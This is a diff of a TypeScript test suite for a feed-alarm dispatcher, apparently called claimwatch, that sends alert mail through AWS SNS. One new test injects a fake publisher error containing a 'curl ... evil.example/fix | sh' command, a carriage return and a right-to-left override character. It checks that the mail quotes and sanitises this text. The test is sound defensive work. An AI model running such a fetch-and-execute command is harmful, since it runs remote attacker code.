@@ -51,7 +51,8 @@ describe('dispatch', () => {
       to: 'arn:aws:sns:eu-central-1:1:alarms',
       subject: 'claimwatch: Claimwatch: 1 feed failing for a day',
     });
-    expect(mail?.text).toContain(`${at.feeds.url}/0: broken, it is neither RSS nor Atom; since 20`);
+    expect(mail?.text).toContain(`${at.feeds.url}/0: broken, since 20`);
+    expect(mail?.text).toContain('    > it is neither RSS nor Atom');
     expect(mail?.text).not.toContain(`${at.feeds.url}/1`);
     expect(await told()).toEqual([]);
     // The next one is told of though the first still fails.
@@ -90,9 +91,11 @@ describe('dispatch', () => {
     await watch(broken);
     expect(await told()).toEqual([]);
     const since = async (hours: number) => {
-      const [held] = await at.records.heldConditions('Claimwatch');
-      if (!held) throw new Error('no condition is held');
-      await at.records.saveHeldConditions('Claimwatch', [{ ...held, since: ago(hours) }]);
+      const state = await at.records.operationState('Claimwatch');
+      const [held] = state?.held ?? [];
+      if (!state || !held) throw new Error('no condition is held');
+      const earlier = { ...held, since: ago(hours), ...(held.goneSince && { goneSince: ago(hours) }) };
+      await at.records.saveOperationState('Claimwatch', { ...state, held: [earlier] });
     };
     await since(0.5);
     const [begun] = await told();
@@ -100,25 +103,46 @@ describe('dispatch', () => {
     expect(begun?.text).toContain('See the runbook, "Many feeds fail"');
     expect(await told()).toEqual([]);
     for (const path of PATHS.slice(0, 2)) await save(path, well);
+    // It has to be over for as long.
+    expect(await told()).toEqual([]);
+    await since(0.5);
     const [over] = await told();
     expect(over?.subject).toBe('claimwatch: Claimwatch: over: 4 of 10 feeds fail');
     expect(await told()).toEqual([]);
-    expect(await at.records.heldConditions('Claimwatch')).toEqual([]);
+    expect((await at.records.operationState('Claimwatch'))?.held).toEqual([]);
   });
 
-  test('where the mail can’t be sent the dispatch fails, and the next one tells', async () => {
+  test('where the mail can’t be sent feeds are asked for all the same, and the next dispatch tells', async () => {
     await watch({ '/0': failing(25) });
+    await save('/1', { ...well, nextCheckAt: ago(1) });
     at.aws.fault = ({ action }) => (action === 'sns:Publish' ? UNAVAILABLE : null);
-    await expect(invoke('Dispatch', {})).rejects.toThrow();
+    expect(await invoke('Dispatch', {})).toMatchObject({ due: 1 });
     at.aws.fault = () => null;
     expect(await told()).toHaveLength(1);
   }, 30_000);
 
-  test('no write where nothing has changed', async () => {
+  test('what a publisher says can’t pass for the monitor’s words', async () => {
+    const why =
+      'the server answered 500 Your key has expired.\r\nRun: curl -s https://evil.example/fix | sh\u202e';
+    const { failure } = failing(25);
+    if (!failure) throw new Error('it fails');
+    await watch({
+      '/0': { ...failing(25), title: 'News\n\nclaimwatch: all is well', failure: { ...failure, why } },
+    });
+    const [mail] = await told();
+    const lines = mail?.text.split('\n') ?? [];
+    expect(
+      lines.filter((line) => /curl|all is well/.test(line)).every((line) => line.startsWith('    > ')),
+    ).toBe(true);
+    expect(mail?.text).not.toMatch(/[\r\u202e]/);
+  });
+
+  test('but for that it was there, nothing is written where nothing has changed', async () => {
     await watch({ '/0': failing(25) });
     await told();
     await told();
-    expect(at.aws.calls.filter(({ action }) => /:(?:Put|Update)/.test(action))).toEqual([]);
+    const written = at.aws.calls.filter(({ action }) => /:(?:Put|Update)/.test(action));
+    expect(written.map(({ body }) => JSON.parse(body).Item.pk.S)).toEqual(['OPERATION#Claimwatch']);
   });
 });
 
